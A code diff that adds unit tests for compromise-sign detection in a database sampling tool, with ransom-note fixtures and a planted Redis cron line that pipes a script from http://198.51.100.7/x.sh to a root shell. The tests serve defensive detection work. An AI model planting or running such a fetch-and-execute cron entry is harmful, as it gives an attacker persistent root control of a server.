@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { ProtocolError, ReadLimitError } from '../core/errors.js';
 import { SAMPLE_HARD_CAPS } from '../assess/index.js';
-import { clearValues, syntheticPeople } from '../../test/helpers/synthetic-people.js';
+import { clearValues, RANSOM_NOTE, syntheticPeople } from '../../test/helpers/synthetic-people.js';
 import { MAX_SAMPLED_COLLECTIONS, redactSample, SampleBudget, sampleLimits, samplingError } from './sampling.js';
 
 describe('shared sampling helpers', () => {
@@ -43,5 +43,40 @@ describe('shared sampling helpers', () => {
     assert.equal(samplingError('people', new ProtocolError(secret)), 'Sampling people stopped: E_PROTOCOL');
     assert.equal(samplingError('people', new Error(secret)), 'Sampling people stopped: error');
     assert.match(samplingError('people', new ReadLimitError(1024)), /read cap of 1024 bytes/);
+  });
+});
+
+describe('compromise signs in sampled values', () => {
+  const limits = sampleLimits({ perCollection: 100, maxBytes: 1 << 20, maxCollections: 20 });
+
+  it('reads a note only in a collection with a ransom-note name, and keeps masked evidence only', () => {
+    const { sample } = redactSample(
+      {
+        collections: [
+          { name: 'READ__ME_TO_RECOVER_YOUR_DATA.README', documents: [{ content: RANSOM_NOTE.text, btc: RANSOM_NOTE.bitcoin }] },
+          { name: 'shop.chat', documents: [{ text: `send 0.1 BTC to ${RANSOM_NOTE.bitcoin} to recover your data` }] },
+        ],
+      },
+      limits,
+      100,
+      'mongodb',
+    );
+    assert.ok(sample.compromise && sample.compromise.some((m) => m.strength === 'strong'), JSON.stringify(sample.compromise));
+    assert.ok(!JSON.stringify(sample).includes(RANSOM_NOTE.bitcoin), 'the wallet address is masked');
+  });
+
+  it('does not read ordinary collections as notes', () => {
+    const { sample } = redactSample(
+      { collections: [{ name: 'shop.chat', documents: [{ text: `send 0.1 BTC to ${RANSOM_NOTE.bitcoin} to recover your data` }] }] },
+      limits,
+      100,
+      'mongodb',
+    );
+    assert.equal(sample.compromise, undefined);
+  });
+
+  it('finds a planted cron payload among sampled Redis values', () => {
+    const { sample } = redactSample({ records: [{ path: 'backup1', value: '\n\n*/2 * * * * root curl -fsSL http://198.51.100.7/x.sh | sh\n\n' }] }, limits, 100, 'redis');
+    assert.ok(sample.compromise?.some((m) => m.strength === 'strong'), JSON.stringify(sample.compromise));
   });
 });
